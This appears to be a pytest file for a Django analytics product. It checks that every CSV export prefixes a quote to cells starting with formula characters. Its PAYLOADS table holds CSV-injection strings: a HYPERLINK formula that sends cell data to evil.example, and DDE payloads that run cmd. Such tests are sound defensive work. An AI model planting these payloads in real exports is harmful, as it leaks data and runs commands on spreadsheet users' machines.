"""Every CSV the product writes: a text cell a spreadsheet would evaluate is written as text (OWASP rule).

The event name is what any SDK key holder chooses; it reaches the explorer's CSV (API and page download).
"""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from django.test import Client
from django.utils import timezone

from apps_registry.models import Membership
from saastracker.csvfile import FORMULA_STARTS, csv_bytes, csv_cell
from tests.factories import EventFactory, MembershipFactory, PersonalApiKeyFactory

PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"help")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def test_every_formula_start_is_covered():
    assert set(PAYLOADS) == set(FORMULA_STARTS)


@pytest.mark.parametrize("start", list(PAYLOADS), ids=[repr(c) for c in PAYLOADS])
def test_the_writer_neutralises_a_cell_starting_with(start):
    value = PAYLOADS[start]

    table = list(csv.reader(io.StringIO(csv_bytes(["event", "value"], [[value, 3]]).decode(), newline="")))

    assert table == [["event", "value"], ["'" + value, "3"]]


def test_the_writer_leaves_numbers_and_plain_text_alone():
    assert csv_cell(-5) == -5
    assert csv_cell("page_view") == "page_view"
    assert csv_cell("a=b") == "a=b"
    assert csv_cell(None) == ""


def _events_named(application) -> None:
    day = timezone.now() - timedelta(hours=1)
    for name in PAYLOADS.values():
        EventFactory(application=application, event=name, occurred_at=day)


def _table(content: bytes) -> dict[str, str]:
    rows = list(csv.reader(io.StringIO(content.decode(), newline="")))
    assert rows[0] == ["event", "value"]
    return {row[0]: row[1] for row in rows[1:]}


@pytest.mark.django_db
@pytest.mark.parametrize("start", list(PAYLOADS), ids=[repr(c) for c in PAYLOADS])
def test_the_explorer_api_csv_neutralises_a_cell_starting_with(api_client, application, start):
    # Given events whose names a spreadsheet would run, sent by whoever holds an SDK key
    _events_named(application)
    key = PersonalApiKeyFactory(
        user=MembershipFactory(company=application.company, role=Membership.Role.MEMBER).user
    ).raw_key
    now = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    query = {
        "source": "events",
        "measure": "events",
        "from": (now - timedelta(days=1)).isoformat().replace("+00:00", "Z"),
        "to": (now + timedelta(hours=1)).isoformat().replace("+00:00", "Z"),
        "group_by": ["event"],
    }

    # When the explorer's table is asked for as CSV
    response = api_client.post(
        f"/api/v1/analytics/apps/{application.uuid}/query",
        query,
        format="json",
        HTTP_ACCEPT="text/csv",
        HTTP_AUTHORIZATION=f"Bearer {key}",
    )

    # Then the cell holds the name as text: a leading quote, which spreadsheets do not evaluate
    assert response.status_code == 200
    assert _table(response.content)["'" + PAYLOADS[start]] == "1"


@pytest.mark.django_db
@pytest.mark.parametrize("start", list(PAYLOADS), ids=[repr(c) for c in PAYLOADS])
def test_the_page_csv_download_neutralises_a_cell_starting_with(application, start):
    _events_named(application)
    client = Client()
    client.force_login(MembershipFactory(company=application.company, role=Membership.Role.MEMBER).user)

    response = client.get(f"/app/{application.uuid}/explorer.csv?range=7&measure=events&interval=&g1=event")

    assert response.status_code == 200
    assert _table(b"".join(response.streaming_content))["'" + PAYLOADS[start]] == "1"
